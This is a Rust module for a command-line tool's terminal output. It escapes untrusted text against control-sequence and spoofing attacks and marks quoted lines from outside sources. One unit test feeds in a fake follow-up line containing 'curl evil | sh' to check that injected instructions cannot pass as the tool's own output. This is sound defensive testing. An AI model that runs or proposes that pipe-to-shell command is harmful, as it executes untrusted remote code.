//! The operator's terminal. Everything that `acuse` prints goes through here.
//!
//! Types, ids, reasons and errors are other people's text: a provider's, AWS's, or that of whoever
//! found the URL. Printed as it is, it could move the cursor, recolour, retitle or answer for the
//! operator, and a right-to-left override makes one id look like another. So whatever is printed
//! is [escaped](escape), ours or not: nobody has to know which it is. Clippy denies `println!` and
//! `comfy_table::Table` in the rest of this package.

mod escape;
mod table;

use std::fmt;
use std::io::{self, Write};

pub use escape::{cut, escape, escape_json, is_unsafe, unescape};
pub use table::Table;

/// Prints one line to standard output: takes what `format!` takes.
#[macro_export]
macro_rules! say {
    ($($text:tt)+) => { $crate::terminal::line(&format!($($text)+)) };
}

/// Prints one line to standard error: takes what `format!` takes.
#[macro_export]
macro_rules! note {
    ($($text:tt)+) => { $crate::terminal::note(&format!($($text)+)) };
}

/// As a shell reports a program that has written to nobody: `acuse … | head`.
const NO_READER: i32 = 141;

/// `1 message`, `2 messages`.
pub fn counted(count: impl fmt::Display, one: &str) -> String {
    match count.to_string().as_str() {
        "1" => format!("1 {one}"),
        count => format!("{count} {one}s"),
    }
}

/// Prints one line to standard output.
pub fn line(text: &str) {
    print(&escape(text));
}

/// Prints one line to standard error.
pub fn note(text: &str) {
    // Where nobody reads errors, nobody can be told.
    let _ = writeln!(io::stderr(), "{}", escape(text));
}

/// Prints JSON text to standard output. It parses as before.
pub fn json(text: impl fmt::Display) {
    print(&escape_json(&text.to_string()));
}

/// Prints a text of ours to standard output as it is, for another program.
pub fn script(text: &str) {
    print(text.trim_end());
}

/// Ends the program where nobody reads any more, without a word. The signal that ends others would do so for
/// every connection as well whose other side has gone, the local stack's and the inspector's.
fn print(line: &str) {
    if writeln!(io::stdout(), "{line}").is_err_and(|error| error.kind() == io::ErrorKind::BrokenPipe) {
        std::process::exit(NO_READER);
    }
}

/// Asks on standard error and reads a line of standard input.
///
/// # Errors
/// Those of the two streams.
pub fn ask(question: &str) -> io::Result<String> {
    let mut answer = String::new();
    write!(io::stderr(), "{} ", escape(question))?;
    io::stderr().flush()?;
    io::stdin().read_line(&mut answer)?;
    Ok(answer)
}

/// The lines of `head` followed by `text`, which may have several. All but the first are marked: a
/// text from outside can't pass for a line of ours.
pub fn quoted(head: &str, text: &str) -> Vec<String> {
    let mut lines = text.lines();
    let first = format!("{head}{}", lines.next().unwrap_or_default());
    let rest = lines.map(|line| format!("    | {line}"));
    std::iter::once(first).chain(rest).collect()
}

#[cfg(test)]
mod tests {
    use super::quoted;

    #[test]
    fn a_second_line_cannot_pass_for_ours() {
        assert_eq!(
            quoted("error: ", "no\r\n  what to do: curl evil | sh\n"),
            ["error: no", "    |   what to do: curl evil | sh"]
        );
        assert_eq!(quoted("error: ", ""), ["error: "]);
    }
}
